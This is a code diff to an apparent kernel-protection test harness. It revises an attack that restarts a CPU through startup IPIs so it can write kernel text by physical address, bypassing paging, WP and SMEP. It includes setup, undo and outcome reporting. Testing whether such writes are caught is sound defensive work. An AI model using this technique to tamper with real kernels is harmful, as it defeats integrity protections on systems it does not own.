@@ -5,10 +5,10 @@
  * neither WP nor page tables nor SMEP exist, and writes a byte of kernel text by its physical
  * address.
  */
-#include <linux/cpu.h>
 #include <linux/delay.h>
 #include <linux/kernel.h>
 #include <linux/mm.h>
+#include <linux/slab.h>
 #include <linux/smp.h>
 #include <asm/apic.h>
 #include <asm/io.h>
@@ -16,6 +16,7 @@
 
 #include "attack.h"
 #include "memory.h"
+#include "resume.h"
 
 /* Linux keeps the first MiB for firmware and its own start-up code: this page nobody uses. */
 #define START_PA   0x8000
@@ -89,53 +90,41 @@ asm(".pushsection .rodata\n"
     "startup_end:\n"
     ".popsection\n");
 
-/* As the kernel itself starts a CPU, less the care for processors of the last century. */
-static void send_startup(u32 apic_id)
-{
-	apic->icr_write(APIC_INT_LEVELTRIG | APIC_INT_ASSERT | APIC_DM_INIT, apic_id);
-	mdelay(10);
-	apic->icr_write(APIC_INT_LEVELTRIG | APIC_DM_INIT, apic_id);
-	mdelay(10);
-	apic->icr_write(APIC_DM_STARTUP | START_PAGE, apic_id);
-	mdelay(1);
-	apic->icr_write(APIC_DM_STARTUP | START_PAGE, apic_id);
-}
-
-static u32 start_and_wait(struct attempt *t, u8 *page, u32 apic_id, u8 byte)
+static u32 start_and_wait(struct attempt *t, u8 *page, unsigned int cpu, u8 byte)
 {
 	size_t size = startup_end - startup_begin;
 	struct startup_args *args = (void *)(page + size - sizeof(*args));
-	int left = 100;
+	int left = 500; /* 10 s: emulated CPUs of a busy machine may take seconds */
 
 	memcpy(page, startup_begin, size);
 	args->target = ((u64)t->pfn << PAGE_SHIFT) + offset_in_page(t->va);
 	args->byte = byte;
-	send_startup(apic_id);
+	resume_send_startup(cpu, START_PAGE);
 	while (READ_ONCE(args->state) < STATE_WROTE && left--)
-		msleep(20);
+		mdelay(20);
 	return READ_ONCE(args->state);
 }
 
-/* The victim is taken out of service first: the kernel would wait for it for ever. */
 static int startup_poke(struct attempt *t, u8 byte)
 {
 	static const char *const states[] = { "code did not run", "code ran", "code wrote",
 					      "code faulted" };
-	unsigned int cpu = cpumask_last(cpu_online_mask);
-	u8 *page = __va(START_PA), *saved = (u8 *)__get_free_page(GFP_KERNEL);
+	unsigned int victim = cpumask_last(cpu_online_mask);
+	u8 *saved = kmemdup(__va(START_PA), PAGE_SIZE, GFP_KERNEL);
 	u32 state;
+	int err = saved ? resume_hold(victim) : -ENOMEM;
 
-	if (!saved || remove_cpu(cpu)) {
-		free_page((unsigned long)saved);
-		return -EBUSY;
-	}
-	memcpy(saved, page, PAGE_SIZE);
-	state = start_and_wait(t, page, cpu_physical_id(cpu), byte);
-	attack_note(t, "CPU %u: %s", cpu, state < ARRAY_SIZE(states) ? states[state] : "?");
-	memcpy(page, saved, PAGE_SIZE);
-	free_page((unsigned long)saved);
-	attack_note(t, "back in service: %d", add_cpu(cpu));
-	return state == STATE_WROTE ? 0 : -EPERM;
+	if (err)
+		goto free;
+	state = start_and_wait(t, __va(START_PA), victim, byte);
+	err = resume_return(state != STATE_NOT_RUN);
+	attack_note(t, "CPU %u: %s, back in service: %d", victim,
+		    state < ARRAY_SIZE(states) ? states[state] : "?", err);
+	memcpy(__va(START_PA), saved, PAGE_SIZE);
+	err = state == STATE_WROTE ? 0 : -EPERM;
+free:
+	kfree(saved);
+	return err;
 }
 
 static enum attack_outcome startup(struct attempt *t)
@@ -167,6 +156,7 @@ static const struct attack startup_attacks[] = {
 		.reason = "emulated CPUs do not report INIT to the hypervisor: only stops on "
 			  "silicon",
 		.own_vm = true,
+		.cpus = 2,
 		.run = startup,
 		.look = memory_look,
 		.undo = startup_undo,
